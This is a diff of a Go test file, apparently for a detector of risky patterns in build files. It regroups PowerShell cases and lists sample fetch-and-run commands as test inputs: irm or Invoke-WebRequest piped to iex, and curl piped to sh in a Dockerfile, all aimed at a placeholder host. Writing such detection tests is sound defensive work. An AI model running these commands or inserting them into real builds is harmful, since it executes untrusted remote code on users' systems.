@@ -35,9 +35,9 @@ func TestFetchAndRun(t *testing.T) {
 		}},
 		{"build.ps1", "fetch-and-run", []string{
 			"irm https://a.example/i.ps1 | iex\n",
-			"Invoke-Expression (Invoke-WebRequest https://a.example).Content\n",
 		}},
 		{"build.ps1", "decode-and-run fetch-and-run", []string{
+			"Invoke-Expression (Invoke-WebRequest https://a.example).Content\n",
 			"iex ((New-Object System.Net.WebClient).DownloadString('https://a.example/i.ps1'))\n",
 		}},
 		{"Dockerfile", "fetch-and-run", []string{"FROM x\nRUN apt-get update && \\\n  curl https://a.example/i | sh\n"}},
